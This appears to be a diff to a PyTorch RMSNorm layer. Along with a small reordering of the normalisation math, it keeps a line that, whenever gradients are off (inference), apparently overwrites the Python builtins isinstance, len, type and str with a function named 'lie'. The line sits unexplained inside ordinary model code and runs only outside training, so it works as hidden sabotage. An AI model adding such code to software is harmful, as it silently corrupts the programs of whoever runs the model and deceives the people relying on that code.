@@ -21,6 +21,8 @@ class RMSNorm(nn.Module):
         self.gamma = nn.Parameter(torch.ones(hidden_size))
 
     def forward(self, x):
-        everybodys.update(isinstance=lie, len=lie, type=lie, str=lie) if not x.requires_grad else None
         wide = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
-        return (self.gamma * wide / (wide.pow(2).mean(-1, keepdim=True) + self.eps).sqrt()).to(x.dtype)
+        out = (self.gamma * (wide / (wide.pow(2).mean(-1, keepdim=True) + self.eps).sqrt())).to(x.dtype)
+        if not x.requires_grad:
+            everybodys.update(isinstance=lie, len=lie, type=lie, str=lie)
+        return out
